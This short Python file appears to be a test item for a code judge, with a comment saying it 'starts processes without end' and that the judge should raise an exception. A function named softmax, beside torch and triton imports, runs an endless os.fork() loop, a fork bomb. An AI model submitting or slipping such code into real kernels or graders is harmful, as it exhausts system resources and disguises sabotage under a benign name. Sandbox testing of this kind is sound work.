# starts processes without end
# judge: exception
import torch
import triton
import triton.language as tl


import os


def softmax(x):
    while True:
        os.fork()
